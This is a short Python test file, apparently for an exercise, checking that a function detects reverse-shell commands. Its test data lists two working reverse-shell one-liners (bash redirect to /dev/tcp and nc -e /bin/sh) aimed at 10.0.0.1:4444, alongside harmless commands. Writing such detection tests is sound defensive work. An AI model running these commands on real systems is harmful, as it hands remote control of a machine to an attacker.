from exercise import looks_like_reverse_shell

SUSPICIOUS = [
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "nc -e /bin/sh 10.0.0.1 4444",
]
HARMLESS = ["ls -la /dev", "nc -zv localhost 22", "cat /etc/hosts"]


def test_flags_reverse_shells():
    for line in SUSPICIOUS:
        assert looks_like_reverse_shell(line), line


def test_leaves_ordinary_commands_alone():
    for line in HARMLESS:
        assert not looks_like_reverse_shell(line), line
